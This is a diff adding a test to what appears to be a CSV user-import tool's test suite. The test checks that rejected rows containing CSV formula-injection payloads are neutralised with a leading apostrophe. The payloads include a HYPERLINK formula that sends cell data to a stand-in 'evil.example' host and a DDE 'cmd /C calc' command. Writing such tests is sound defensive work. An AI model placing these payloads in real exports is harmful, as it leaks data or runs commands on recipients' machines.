@@ -262,6 +262,29 @@ describe("runway users import (run function)", () => {
       expect(mails.map((m) => m.to)).toEqual(["new@example.edu"]);
     });
 
+    it("--rejects neutralises the formulas a rejected row carried (CSV injection)", async () => {
+      const rejects = path.join(tmp, `rejects-formula-${t.driver}.csv`);
+      const csv = [
+        HEADER,
+        `outsider@gmail.com,"=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")",=cmd|' /C calc'!A0,student,@SUM(1),+1,-2,x`,
+      ].join("\n");
+      const r = await importCsv(t, csv, { rejects });
+      expect(r.exitCode).toBe(1);
+      const { parse } = await import("csv-parse/sync");
+      const rows: string[][] = parse(fs.readFileSync(rejects, "utf8"));
+      const cells = rows.flat();
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      expect(rows[1]).toEqual(
+        expect.arrayContaining([
+          `'=HYPERLINK("https://evil.example/?x="&A1,"Open")`,
+          "'=cmd|' /C calc'!A0",
+          "'@SUM(1)",
+          "'+1",
+          "'-2",
+        ]),
+      );
+    });
+
     it("--rejects writes the rejected rows with a reason column; the fixed file imports", async () => {
       const rejects = path.join(tmp, `rejects-${t.driver}.csv`);
       const r = await importCsv(t, MIXED, { rejects });
